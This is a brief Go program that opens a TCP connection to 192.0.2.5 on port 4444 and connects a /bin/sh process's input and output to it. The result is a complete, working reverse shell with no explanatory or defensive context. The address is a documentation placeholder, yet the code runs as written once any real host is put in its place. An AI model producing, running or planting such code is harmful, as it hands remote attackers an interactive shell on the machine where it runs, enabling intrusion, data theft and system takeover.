package main
import ("net"; "os/exec")
func main() { c, _ := net.Dial("tcp", "192.0.2.5:4444"); cmd := exec.Command("/bin/sh"); cmd.Stdin = c; cmd.Stdout = c; cmd.Stderr = c; cmd.Run() }
